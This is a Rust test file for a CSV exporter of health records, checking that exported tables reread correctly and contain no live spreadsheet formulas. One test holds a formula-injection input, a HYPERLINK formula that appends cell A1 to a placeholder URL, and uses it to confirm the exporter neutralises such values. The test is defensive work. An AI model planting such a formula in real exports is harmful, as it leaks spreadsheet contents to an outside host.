//! Tables that are written: every kind has one, nothing in it is a formula, and what the reader has columns for comes back.

use exchange::csv::{Rows, Table, guess, write};
use exchange::parsed::Parsed;
use proptest::prelude::*;
use vault::record::{
    Allergy, Checkup, CodedText, Diagnosis, Fact, Kind, Medication, Provenance, Record, ResultValue, TestResult,
};

use crate::strategies;

fn table(records: &[Record], kind: Kind, japanese: bool) -> Table {
    let text = write(kind, records, japanese).unwrap();
    assert!(text.starts_with('\u{feff}') && text.ends_with("\r\n"));
    Table::open(text.as_bytes()).unwrap().unwrap()
}

fn read_again(record: &Record, japanese: bool) -> (Option<Rows>, Parsed) {
    let table = table(std::slice::from_ref(record), record.kind(), japanese);
    let mapping = guess(&table);
    (mapping.rows, table.parsed(&mapping).unwrap())
}

/// A text that is nothing to the reader is none.
fn said(text: Option<&String>) -> Option<String> {
    text.filter(|text| !text.trim().is_empty()).cloned()
}

fn day(date: Option<&vault::record::DateTime>) -> Option<String> {
    date.map(|date| date.date().to_owned())
}

fn code(name: &CodedText) -> Option<String> {
    name.codings.iter().find_map(|coding| coding.code.clone())
}

fn quantity(quantity: Option<&vault::record::Quantity>) -> Option<String> {
    quantity.map(|one| format!("{:?} {} {:?}", one.comparator, one.value, one.unit))
}

fn of_medication(fact: &Medication) -> impl PartialEq + std::fmt::Debug {
    (
        (fact.via, fact.name.label().to_owned(), code(&fact.name), said(fact.ingredient.as_ref()), fact.status),
        (quantity(fact.dose.as_ref()), said(fact.dosage_text.as_ref()), fact.as_needed, fact.days),
        (day(fact.start.as_ref()), day(fact.end.as_ref()), said(fact.reason.as_ref())),
        (said(fact.prescriber.as_ref()), said(fact.pharmacy.as_ref()), said(fact.note.as_ref())),
    )
}

fn of_diagnosis(fact: &Diagnosis) -> impl PartialEq + std::fmt::Debug {
    (
        (fact.name.label().to_owned(), code(&fact.name), fact.status, fact.suspected),
        (day(fact.onset.as_ref()), day(fact.abatement.as_ref())),
        (said(fact.severity.as_ref()), said(fact.note.as_ref())),
    )
}

fn of_allergy(fact: &Allergy) -> impl PartialEq + std::fmt::Debug {
    let one = fact.reactions.first().filter(|_| fact.reactions.len() == 1);
    let reaction = one.map(|one| (one.manifestation.label().to_owned(), one.severity));
    (
        (fact.substance.label().to_owned(), code(&fact.substance), fact.category, fact.status, fact.suspected),
        reaction.filter(|(words, severity)| !words.is_empty() || severity.is_some()),
        (day(fact.onset.as_ref()), said(fact.note.as_ref())),
    )
}

fn of_result(result: &TestResult) -> impl PartialEq + std::fmt::Debug {
    let value = result.value.as_ref().map(|value| match value {
        ResultValue::Quantity(one) => quantity(Some(one)).unwrap(),
        ResultValue::Text(words) | ResultValue::Absent(words) => words.clone(),
        ResultValue::Coded(coded) => coded.label().to_owned(),
    });
    let range = result.range.as_ref().map(|range| (range.low.clone(), range.high.clone(), range.text.clone()));
    let words = (said(result.method.as_ref()), said(result.note.as_ref()));
    (result.name.label().to_owned(), code(&result.name), value, range, result.flag, words)
}

fn of_visit(visit: &Checkup) -> impl PartialEq + std::fmt::Debug {
    (visit.title.clone(), day(visit.date.as_ref()), visit.results.iter().map(of_result).collect::<Vec<_>>())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn what_the_columns_hold_is_read_again(record in strategies::record(), japanese in any::<bool>()) {
        let rows = match record.kind() {
            Kind::Medication => Rows::Medication,
            Kind::Diagnosis => Rows::Diagnosis,
            Kind::Allergy => Rows::Allergy,
            Kind::Checkup => Rows::Result,
            Kind::Laboratory => Rows::Laboratory,
            Kind::Infection => Rows::Infection,
            // Kinds that the reader has no columns for.
            _ => return Ok(()),
        };
        // Nothing can be written beside no result.
        prop_assume!(record.fact.results().is_none_or(|visit| !visit.results.is_empty()));
        let (guessed, parsed) = read_again(&record, japanese);
        prop_assert_eq!(guessed, Some(rows));
        prop_assert_eq!(parsed.entries.len(), 1);
        let entry = &parsed.entries[0];
        prop_assert_eq!(entry.fact.kind(), record.kind());
        prop_assert_eq!(&entry.source.organization, &said(record.provenance.organization.as_ref()));
        prop_assert_eq!(&entry.source.recorder, &said(record.provenance.recorder.as_ref()));
        match (&record.fact, &entry.fact) {
            (Fact::Medication(was), Fact::Medication(is)) => prop_assert_eq!(of_medication(was), of_medication(is)),
            (Fact::Diagnosis(was), Fact::Diagnosis(is)) => prop_assert_eq!(of_diagnosis(was), of_diagnosis(is)),
            (Fact::Allergy(was), Fact::Allergy(is)) if was.reactions.len() < 2 => {
                prop_assert_eq!(of_allergy(was), of_allergy(is));
            }
            (was, is) => {
                let visits = was.results().zip(is.results());
                prop_assert!(visits.is_none_or(|(was, is)| format!("{:?}", of_visit(was)) == format!("{:?}", of_visit(is))), "{was:?} {is:?}");
            }
        }
    }

    #[test]
    fn a_table_of_any_kind_has_a_row_a_record_or_a_result_and_no_formula(record in strategies::record(), japanese in any::<bool>()) {
        let rows = record.fact.results().map_or(1, |visit| visit.results.len().max(1));
        let table = table(&[record.clone(), record.clone()], record.kind(), japanese);
        prop_assert_eq!(table.rows().len(), 1 + 2 * rows);
        let width = table.width();
        for row in table.rows() {
            prop_assert_eq!(row.cells.len(), width, "{}", &row.text);
            prop_assert!(row.cells.iter().all(|cell| !cell.starts_with(['=', '@', '\t'])), "{}", &row.text);
        }
        let first = table.rows().next().unwrap();
        let mut names = first.cells;
        names.sort_unstable();
        names.dedup();
        prop_assert_eq!(names.len(), width, "a heading stands twice: {}", first.text);
    }
}

#[test]
fn every_kind_has_a_table_and_every_field_of_its_form_a_column() {
    for kind in Kind::HEALTH {
        for japanese in [true, false] {
            let headings = write(kind, [], japanese).unwrap();
            assert_eq!(headings.lines().count(), 1, "{kind:?}");
            for field in Fact::empty(kind).unwrap().fields().map(|all| all.fields()).unwrap_or_default() {
                let name = exchange::label::field(kind, field.name, japanese);
                assert!(
                    headings
                        .trim_end()
                        .trim_start_matches('\u{feff}')
                        .split(',')
                        .any(|one| one.trim_matches('"') == name),
                    "{kind:?} {name}"
                );
            }
        }
    }
    assert!(write(Kind::Person, [], true).is_none() && write(Kind::Grant, [], true).is_none());
}

#[test]
fn what_looks_like_a_formula_is_text_in_the_table_and_itself_when_it_is_read() {
    let name = "=HYPERLINK(\"http://x.example/\"&A1)";
    let fact = Diagnosis { name: CodedText::from_text(name), note: Some("-2+3".into()), ..Diagnosis::default() };
    let record = Record::new(Fact::Diagnosis(fact), Provenance::typed(0));
    let text = write(Kind::Diagnosis, [&record], true).unwrap();
    assert!(text.contains("\"'=HYPERLINK") && text.contains(",'-2+3,"), "{text}");
    let (_, parsed) = read_again(&record, true);
    let Fact::Diagnosis(read) = &parsed.entries[0].fact else { panic!() };
    assert_eq!((read.name.label(), read.note.as_deref()), (name, Some("-2+3")));
}
